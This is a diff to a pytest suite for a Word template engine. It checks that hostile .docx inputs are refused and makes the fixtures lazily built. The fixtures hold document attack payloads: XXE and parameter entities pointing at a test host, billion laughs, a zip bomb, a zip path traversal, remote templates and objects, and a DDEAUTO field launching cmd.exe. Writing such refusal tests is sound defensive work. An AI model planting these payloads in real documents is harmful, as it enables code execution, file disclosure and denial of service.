@@ -196,13 +196,17 @@ def nothing_runs(monkeypatch):
 
 
 @pytest.mark.usefixtures("nothing_runs")
-@pytest.mark.parametrize(
-    "written", EXPRESSIONS, ids=lambda text: text[:60].encode("ascii", "replace").decode()
-)
-def test_no_form_is_executed(written):
-    found = refusal(document(p(r(written)), "{{ x }}"))
-    assert all("来路不明.docx" in text for _, text in found)
-    assert not any("Error" in text or "__globals__'" in text for _, text in found)
+def test_no_form_is_executed():
+    let_through = []
+    for written in EXPRESSIONS:
+        try:
+            compile_template(document(p(r(written)), "{{ x }}"), name="来路不明.docx").render(FIELDS)
+        except Stop as stop:
+            texts = [str(problem) for problem in stop.problems]
+            if all("来路不明.docx" in t and "Error" not in t and "__globals__'" not in t for t in texts):
+                continue
+        let_through.append(written)
+    assert let_through == []
 
 
 def test_in_header_footnote_and_table_too():
@@ -269,71 +273,71 @@ def field(code):
     return p(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>', "{{ x }}")
 
 
-FILES = {
-    "external entity": (words.replace(document("x"), "word/document.xml", XXE + BODY.format("&x;")), "xml-doctype"),
-    "external entity in UTF-16": (
+FILES = {  # made when they are asked for: some are large
+    "external entity": lambda: (words.replace(document("x"), "word/document.xml", XXE + BODY.format("&x;")), "xml-doctype"),
+    "external entity in UTF-16": lambda: (
         words.replace(
             document("x"), "word/document.xml",
             ('<?xml version="1.0" encoding="UTF-16"?>' + XXE + BODY.format("&x;")).encode("utf-16"),
         ),
         "xml-doctype",
     ),
-    "parameter entity": (
+    "parameter entity": lambda: (
         words.replace(
             document("x"), "word/document.xml",
             '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>' + BODY.format(""),
         ),
         "xml-doctype",
     ),
-    "entity in the styles": (
+    "entity in the styles": lambda: (
         words.replace(document("{{ x }}"), "word/styles.xml", XXE + f'<w:styles xmlns:w="{words.W}">&x;</w:styles>'),
         "xml-doctype",
     ),
-    "billion laughs": (words.replace(document("x"), "word/document.xml", LAUGHS + BODY.format("&i;")), "xml-doctype"),
-    "billion laughs in the relationships": (
+    "billion laughs": lambda: (words.replace(document("x"), "word/document.xml", LAUGHS + BODY.format("&i;")), "xml-doctype"),
+    "billion laughs in the relationships": lambda: (
         words.replace(document("x"), "word/_rels/document.xml.rels", LAUGHS + "<Relationships/>"), "xml-doctype",
     ),
-    "zip bomb": (words.replace(document("{{ x }}"), "word/header9.xml", bomb(200_000_000)), ""),
-    "cut off": (document("{{ x }}")[:-400], "zip"),
-    "not XML": (words.replace(document("x"), "word/document.xml", "{{ x }}"), "template-xml"),
-    "unclosed XML": (words.replace(document("x"), "word/document.xml", BODY.format("")[:-5]), "template-xml"),
-    "deep XML": (
+    "zip bomb": lambda: (words.replace(document("{{ x }}"), "word/header9.xml", bomb(200_000_000)), ""),
+    "cut off": lambda: (document("{{ x }}")[:-400], "zip"),
+    "not XML": lambda: (words.replace(document("x"), "word/document.xml", "{{ x }}"), "template-xml"),
+    "unclosed XML": lambda: (words.replace(document("x"), "word/document.xml", BODY.format("")[:-5]), "template-xml"),
+    "deep XML": lambda: (
         words.replace(document("x"), "word/document.xml", BODY.format("<w:a>" * 50_000 + "</w:a>" * 50_000)), "xml",
     ),
-    "two members of one name": (
+    "two members of one name": lambda: (
         words.replace(document("{{ x }}"), "word/DOCUMENT.xml", BODY.format("")), "zip-duplicate",
     ),
-    "a member that climbs out": (words.replace(document("{{ x }}"), "../../evil.txt", "x"), "zip-name"),
-    "macro inside": (words.replace(document("{{ x }}"), "word/vbaProject.bin", b"\xd0\xcf"), ""),
-    "remote template": (document("{{ x }}", relations=relation("attachedTemplate", "http://192.0.2.1/a.dotm")), "template-external"),
-    "remote template on a share": (
+    "a member that climbs out": lambda: (words.replace(document("{{ x }}"), "../../evil.txt", "x"), "zip-name"),
+    "macro inside": lambda: (words.replace(document("{{ x }}"), "word/vbaProject.bin", b"\xd0\xcf"), ""),
+    "remote template": lambda: (document("{{ x }}", relations=relation("attachedTemplate", "http://192.0.2.1/a.dotm")), "template-external"),
+    "remote template on a share": lambda: (
         document("{{ x }}", relations=relation("attachedTemplate", "file://\\\\192.0.2.1\\a.dotm")), "template-external",
     ),
-    "remote picture": (document("{{ x }}", relations=relation("image", "http://192.0.2.1/a.png")), "template-external"),
-    "remote object": (document("{{ x }}", relations=relation("oleObject", "mhtml:http://192.0.2.1/a!x-usc:b")), "template-external"),
-    "remote frame": (document("{{ x }}", relations=relation("frame", "http://192.0.2.1/")), "template-external"),
-    "DDE": (document(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')), "template-field-code"),
-    "DDE in lower case and pieces": (
+    "remote picture": lambda: (document("{{ x }}", relations=relation("image", "http://192.0.2.1/a.png")), "template-external"),
+    "remote object": lambda: (document("{{ x }}", relations=relation("oleObject", "mhtml:http://192.0.2.1/a!x-usc:b")), "template-external"),
+    "remote frame": lambda: (document("{{ x }}", relations=relation("frame", "http://192.0.2.1/")), "template-external"),
+    "DDE": lambda: (document(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')), "template-field-code"),
+    "DDE in lower case and pieces": lambda: (
         document(p("<w:r><w:instrText> dd</w:instrText></w:r><w:r><w:instrText>e cmd</w:instrText></w:r>", "{{ x }}")),
         "template-field-code",
     ),
-    "INCLUDETEXT": (document(field(' INCLUDETEXT "c:\\\\秘密.docx" ')), "template-field-code"),
-    "INCLUDEPICTURE": (document(field(' INCLUDEPICTURE "http://192.0.2.1/a.png" ')), "template-field-code"),
-    "field in an attribute": (
+    "INCLUDETEXT": lambda: (document(field(' INCLUDETEXT "c:\\\\秘密.docx" ')), "template-field-code"),
+    "INCLUDEPICTURE": lambda: (document(field(' INCLUDEPICTURE "http://192.0.2.1/a.png" ')), "template-field-code"),
+    "field in an attribute": lambda: (
         document('<w:p><w:fldSimple w:instr=" LINK Excel.Sheet x "><w:r><w:t>{{ x }}</w:t></w:r></w:fldSimple></w:p>'),
         "template-field-code",
     ),
-    "altChunk": (document(f'<w:altChunk r:id="rId_evil" xmlns:r="{words.R}"/>', "{{ x }}"), "template-external"),
-    "tag in a field code": (document(field(" HYPERLINK {{ x }} ")), "template-place"),
-    "tag in an attribute": (document('<w:p><w:hyperlink w:anchor="{{ x }}"><w:r><w:t>甲</w:t></w:r></w:hyperlink></w:p>'), "template-place"),
-    "a million braces": (document(p(r("{" * 1_000_000)), "{{ x }}"), "template-brace"),
-    "a million opening tags": (document(p(r("{{ " * 300_000)), "{{ x }}"), "template-brace"),
-    "100,000 tags": (document(p(r("{{ x }}" * 100_000))), "template-limit"),
-    "6,000 paragraphs with tags": (document(*["{{ x }}"] * 6_000), "template-limit"),
-    "a workbook": (words.archive({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}), ""),
-    "text": (b"{{ x }}", ""),
-    "nothing": (b"", ""),
-    "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, ""),
+    "altChunk": lambda: (document(f'<w:altChunk r:id="rId_evil" xmlns:r="{words.R}"/>', "{{ x }}"), "template-external"),
+    "tag in a field code": lambda: (document(field(" HYPERLINK {{ x }} ")), "template-place"),
+    "tag in an attribute": lambda: (document('<w:p><w:hyperlink w:anchor="{{ x }}"><w:r><w:t>甲</w:t></w:r></w:hyperlink></w:p>'), "template-place"),
+    "a million braces": lambda: (document(p(r("{" * 1_000_000)), "{{ x }}"), "template-brace"),
+    "a million opening tags": lambda: (document(p(r("{{ " * 300_000)), "{{ x }}"), "template-brace"),
+    "100,000 tags": lambda: (document(p(r("{{ x }}" * 100_000))), "template-limit"),
+    "6,000 paragraphs with tags": lambda: (document(*["{{ x }}"] * 6_000), "template-limit"),
+    "a workbook": lambda: (words.archive({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}), ""),
+    "text": lambda: (b"{{ x }}", ""),
+    "nothing": lambda: (b"", ""),
+    "old Word": lambda: (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, ""),
 }  # fmt: skip
 
 
@@ -360,7 +364,7 @@ LOOPS = {
 @pytest.mark.damaged_files
 @pytest.mark.parametrize("name", FILES)
 def test_hostile_files_are_refused_by_name(name):
-    data, kind = FILES[name]
+    data, kind = FILES[name]()
     found = refusal(data)
     assert any(one.startswith(kind) for one, _ in found), found
     assert all("来路不明.docx" in text for _, text in found)
@@ -412,7 +416,7 @@ def test_all_of_them_within_two_seconds_each_and_512_mib(tmp_path):
     layer = ["甲"] * 30
     fields = {**FIELDS, "长": "长" * 900_000, "层": [[[layer] * 30] * 30] * 30}
     cases = [(text[:40], document(p(r(text))), FIELDS) for text in EXPRESSIONS]
-    cases += [(name, data, FIELDS) for name, (data, _) in FILES.items()]
+    cases += [(name, data, FIELDS) for name, (data, _) in ((name, make()) for name, make in FILES.items())]
     cases += [(name, document(p(r(text))), fields) for name, text in LOOPS.items()]
     (tmp_path / "cases").write_bytes(pickle.dumps(cases))
     done = subprocess.run(
